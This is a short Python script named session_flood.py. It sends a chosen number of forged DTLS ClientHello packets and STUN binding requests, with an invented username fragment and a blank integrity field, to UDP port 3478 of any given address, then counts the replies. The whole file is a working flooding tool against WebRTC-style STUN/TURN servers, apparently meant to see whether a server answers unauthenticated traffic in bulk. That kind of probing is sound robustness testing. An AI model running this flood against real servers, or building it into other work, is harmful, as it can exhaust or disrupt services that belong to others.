# SPDX-License-Identifier: BSD-3-Clause
"""ClientHellos by a path that no check has proven, and checks with ufrags that nobody gave.
usage: session_flood.py ADDRESS COUNT; prints how many answers came"""

import os
import socket
import struct
import sys

address, count = sys.argv[1], int(sys.argv[2])
hello = bytes.fromhex("16feff0000000000000000") + struct.pack(">H", 200) + b"\x01" + bytes(199)
name = b"AAAABBBBCCCCDDDD:them"
attribute = struct.pack(">HH", 6, len(name)) + name + bytes(-len(name) % 4) + struct.pack(">HH", 8, 20) + bytes(20)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    client.connect((address, 3478))
    client.setblocking(False)
    for _ in range(count):
        client.send(hello)
        client.send(struct.pack(">HHI", 1, len(attribute), 0x2112A442) + os.urandom(12) + attribute)
    client.settimeout(1)
    answers = 0
    try:
        while client.recv(2048):
            answers += 1
    except TimeoutError:
        print(answers)
